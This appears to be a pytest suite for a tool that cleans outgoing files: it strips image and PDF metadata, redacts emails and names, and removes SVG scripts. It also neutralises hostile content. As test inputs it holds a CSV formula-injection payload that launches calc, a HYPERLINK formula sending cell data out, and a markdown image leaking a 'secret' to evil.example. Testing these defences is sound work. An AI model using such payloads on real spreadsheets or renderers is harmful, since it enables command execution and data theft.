"""Files on their way out: looked through as what they are, and valid after that."""

import csv
import io
import json
import struct
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from toolguild.outgoing import personal, pictures
from toolguild.outgoing.files import Looked, looked_through
from toolguild.outgoing.redaction import Redactor

MAIL = "omar.haddad@post.example"


def looked(name: str, content: bytes | str) -> tuple[Looked, Redactor]:
    redactor = Redactor(personal=personal.found)
    raw = content if isinstance(content, bytes) else content.encode()
    return looked_through(name, raw, redactor), redactor


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


PIXELS = chunk(b"IDAT", zlib.compress(b"\0\x7f"))
HEAD = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
END = chunk(b"IEND", b"")


def test_the_metadata_of_a_png_goes_and_its_pixels_stay() -> None:
    said = (
        chunk(b"tEXt", b"Author\0Omar Haddad")
        + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"packed words"))
        + chunk(b"iTXt", b"Title\0\0\0en\0\0by Omar")
        + chunk(b"eXIf", b"MM\0*camera")
        + chunk(b"tIME", b"\x07\xea\1\1\1\1\1")
    )
    one, redactor = looked("plot.png", HEAD + said + PIXELS + END + b"behind the end")

    assert one.content == HEAD + PIXELS + END
    values = " ".join(taken.value for taken in redactor.taken.values())
    assert all(
        word in values for word in ("Omar Haddad", "packed words", "by Omar", "behind the end")
    )
    assert redactor.counts == {"metadata": 6}


def test_a_png_that_only_names_its_software_stays_as_it_is() -> None:
    drawn = HEAD + chunk(b"tEXt", b"Software\0Matplotlib version3.9.2, https://matplotlib.org/")

    assert looked("plot.png", drawn + PIXELS + END)[0] == Looked()


def test_the_metadata_of_a_jpeg_goes_and_its_pixels_stay() -> None:
    def segment(marker: int, body: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body

    start = b"\xff\xd8" + segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0")
    rest = segment(0xDB, bytes(65)) + b"\xff\xda\0\x02pixels\xff\xd9"
    said = (
        segment(0xE1, b"Exif\0\0GPS 52.5 13.4") + segment(0xFE, b"by Omar") + segment(0xED, b"iptc")
    )
    one, redactor = looked("photo.jpg", start + said + rest)

    assert one.content == start + rest
    assert redactor.counts == {"metadata": 3}
    assert looked("photo.jpg", start + rest)[0] == Looked()


def test_a_pdf_keeps_its_length_and_loses_its_author() -> None:
    pdf = b"%PDF-1.4\n1 0 obj<</Author (Omar Haddad)/Producer (x)/Title <4f6d>>>endobj\n"
    pdf += b"<?xpacket begin='' id='x'?><a>Omar</a><?xpacket end='w'?>\n%%EOF\n"
    one, redactor = looked("a.pdf", pdf)

    assert one.content is not None
    assert len(one.content) == len(pdf)
    assert b"Omar" not in one.content
    assert b"/Producer (x)" in one.content
    assert redactor.counts == {"metadata": 3}
    assert "pages of a.pdf were not looked through" in one.notes[-1]


def test_an_svg_loses_its_metadata_and_its_scripts() -> None:
    svg = (
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><!-- created by omar -->'
        '<metadata><creator>omar</creator></metadata><script>fetch("x")</script>'
        f'<a href="javascript:run()"><text onclick="go()">{MAIL}</text></a></svg>'
    )
    one, _ = looked("plot.svg", svg)

    assert one.content is not None
    text = one.content.decode()
    for gone in ("omar", "<script", "onclick", "javascript:", MAIL):
        assert gone not in text
    assert "<text >[email 1]</text>" in text


def test_a_table_is_looked_through_cell_by_cell_and_stays_one() -> None:
    rows = [
        ["id", "customer_name", "note"],
        ["1", "Xolokhe Vratu", 'said "hi",\nthen left'],
        ["2", "", MAIL],
    ]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    one, _ = looked("t.csv", out.getvalue())

    assert one.content is not None
    read = list(csv.reader(io.StringIO(one.content.decode(), newline="")))
    assert read == [
        ["id", "customer_name", "note"],
        ["1", "[person 1]", 'said "hi",\nthen left'],
        ["2", "", "[email 1]"],
    ]


def test_a_long_table_is_looked_through_as_well_and_quickly() -> None:
    lines = "".join(f"{i},item {i},{i * 1.5:.2f}\n" for i in range(50_000))
    one, redactor = looked("t.csv", "a,b,c\n" + lines + f"7,{MAIL},1\n")

    assert one.content is not None
    assert one.content.endswith(b"7,[email 1],1\n")
    assert redactor.counts == {"email": 1}


def test_formulas_that_fetch_or_start_something_are_made_harmless_and_numbers_are_not() -> None:
    table = 'a,b\n"=HYPERLINK(""http://x.example/?""&A1)",-3.5\n=cmd|\' /C calc\'!A0,+4\n=A1+B1,x\n'
    one, _ = looked("t.csv", table)

    assert one.content is not None
    assert [row[0][:2] for row in csv.reader(io.StringIO(one.content.decode()))] == [
        "a",
        "'=",
        "'=",
        "=A",
    ]
    assert b",-3.5\n" in one.content
    assert one.notes == ("2 formulas in t.csv made harmless",)


def test_json_stays_json() -> None:
    one, _ = looked(
        "a.json", json.dumps({"users": [{"mail": MAIL, "n": 1.5, "ok": None}]}, indent=2)
    )

    assert one.content is not None
    assert json.loads(one.content) == {"users": [{"mail": "[email 1]", "n": 1.5, "ok": None}]}
    lines, _ = looked("a.jsonl", json.dumps({"mail": MAIL}) + '\n{"n": 1}\n')
    assert lines.content == b'{"mail": "[email 1]"}\n{"n": 1}\n'


def test_a_picture_in_markdown_that_would_send_data_is_made_harmless() -> None:
    one, _ = looked(
        "a.md", "![x](https://evil.example/p.png?q=secret) ![y](https://a.example/b.png)"
    )

    assert (
        one.content
        == b"x (picture not loaded: `https://evil.example/p.png?q=secret`) ![y](https://a.example/b.png)"
    )
    assert "made harmless" in one.notes[0]


def test_what_cannot_be_looked_into_is_said() -> None:
    for name, content in (
        ("a.zip", b"PK\x03\x04rest"),
        ("a.gz", b"\x1f\x8brest"),
        ("a.bin", b"\0\1\2"),
    ):
        one, _ = looked(name, content)
        assert one.content is None
        assert f"{name} was not looked through" in one.notes[0]
    assert "cut off" in looked("a.png", HEAD[:-3])[0].notes[0]
    page, _ = looked("a.html", "<!doctype html><script>1</script>")
    assert page == Looked(None, ("a.html runs scripts when it is opened",))


def test_a_text_in_another_encoding_keeps_it() -> None:
    latin, _ = looked("a.txt", f"Grüße an {MAIL}".encode("latin-1"))
    wide, _ = looked("a.txt", b"\xff\xfe" + f"an {MAIL}".encode("utf-16-le"))

    assert latin.content == "Grüße an [email 1]".encode("latin-1")
    assert wide.content == b"\xff\xfe" + "an [email 1]".encode("utf-16-le")


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(
        [
            b"",
            pictures.PNG,
            HEAD,
            b"\xff\xd8\xff",
            b"%PDF-1.4\n/Author (",
            b"<svg><!--",
            b"<svg><script",
        ]
    ),
    st.binary(max_size=300),
    st.sampled_from(
        ["a.png", "a.jpg", "a.svg", "a.csv", "a.json", "a.jsonl", "a.md", "a.html", "a.tsv", "a"]
    ),
)
def test_no_bytes_crash_it(start: bytes, rest: bytes, name: str) -> None:
    one, _ = looked(name, start + rest)
    if one.content is not None:
        again, _ = looked(name, one.content)
        assert again.content is None or len(again.content) <= len(one.content) + 200


@pytest.mark.parametrize(
    "text", ["[" * 100_000, '{"a":' * 50_000, '"' * 100_001, "<!--" * 50_000, "<script" * 30_000]
)
@pytest.mark.parametrize("name", ["a.json", "a.csv", "a.svg"])
def test_hostile_texts_are_looked_through_in_bounds(name: str, text: str, tmp_path: Path) -> None:
    one, _ = looked(name, "<svg>" + text if name == "a.svg" else text)

    assert one.content is None or len(one.content) <= 2 * len(text) + 100
